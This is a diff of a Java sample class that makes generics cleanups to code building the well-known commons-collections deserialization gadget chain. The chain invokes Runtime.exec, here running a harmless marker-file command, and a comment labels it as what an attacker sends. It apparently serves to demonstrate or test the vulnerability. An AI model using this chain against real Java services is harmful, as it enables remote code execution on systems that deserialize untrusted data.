@@ -62,7 +62,7 @@ public final class GadgetCache {
     /** A LazyMap that derives values by calling methods reflectively. */
     static Map<Object, Object> cache(String key) {
         Transformer t = new ChainedTransformer(new Transformer[] {
-            new ConstantTransformer(key), new InvokerTransformer("toUpperCase", new Class[0], new Object[0])});
+            new ConstantTransformer(key), new InvokerTransformer("toUpperCase", new Class<?>[0], new Object[0])});
         Map<Object, Object> cache = new HashMap<Object, Object>();
         cache.put(new TiedMapEntry(LazyMap.decorate(new HashMap<Object, Object>(), t), key), "entry");
         return cache;
@@ -92,12 +92,13 @@ public final class GadgetCache {
     }
 
     /** What an attacker sends: the well-known shape of a commons-collections chain, built here so the sample is self-contained. */
+    @SuppressWarnings("unchecked") // commons-collections 3.1 predates generics: LazyMap.decorate returns a raw Map
     static byte[] payload(String marker) throws Exception {
         Transformer[] chain = {
             new ConstantTransformer(Runtime.class),
-            new InvokerTransformer("getMethod", new Class[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class[0]}),
-            new InvokerTransformer("invoke", new Class[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
-            new InvokerTransformer("exec", new Class[] {String.class}, new Object[] {"touch " + marker}),
+            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]}),
+            new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
+            new InvokerTransformer("exec", new Class<?>[] {String.class}, new Object[] {"touch " + marker}),
         };
         ChainedTransformer chained = new ChainedTransformer(new Transformer[] {new ConstantTransformer("harmless")});
         Map<Object, Object> lazy = LazyMap.decorate(new HashMap<Object, Object>(), chained);
